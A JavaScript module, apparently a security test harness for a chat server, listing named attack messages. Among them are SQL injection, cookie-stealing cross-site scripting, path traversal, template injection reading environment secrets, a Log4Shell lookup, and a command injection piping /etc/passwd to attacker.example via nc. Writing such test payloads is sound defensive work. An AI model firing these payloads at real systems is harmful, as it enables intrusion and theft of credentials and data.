// The attacks on offer. Each makes one message, as text, from a fresh id. All are harmless here.

const chat = (text) => (id) => JSON.stringify({ type: "chat", id, text });

export const attacks = [
  { name: "SQL injection: always true", make: chat("' OR '1'='1' -- ") },
  { name: "SQL injection: stolen columns", make: chat("x' UNION SELECT name, password FROM users -- ") },
  { name: "NoSQL injection: an operator for a text", make: (id) => JSON.stringify({ type: "chat", id, text: { $ne: null } }) },
  { name: "Cross-site scripting", make: chat("<img src=x onerror=alert(document.cookie)>") },
  { name: "Cross-site scripting, URL-encoded twice", make: chat("%253Cscript%253Ealert%25281%2529%253C%252Fscript%253E") },
  { name: "Path traversal", make: chat("../../../../etc/passwd") },
  { name: "Command injection", make: chat("; cat /etc/passwd | nc attacker.example 4444") },
  { name: "Template injection", make: chat("{{constructor.constructor('return process.env')()}}") },
  { name: "Log lookup (Log4Shell)", make: chat("${jndi:ldap://attacker.example/a}") },
  { name: "Oversized message: 1 MiB", make: (id) => JSON.stringify({ type: "chat", id, text: "A".repeat(1024 * 1024) }) },
  { name: "JSON that ends too early", make: (id) => `{"type":"chat","id":"${id}","text":"hello` },
  { name: "JSON with one key twice", make: (id) => `{"type":"chat","id":"${id}","text":"hello","text":"evil"}` },
  { name: "A message type nobody allowed", make: (id) => JSON.stringify({ type: "delete_everything", id }) },
  { name: "The same message again (replay)", make: (_id, last) => JSON.stringify({ type: "chat", id: last, text: "once more" }), needsLast: true },
];
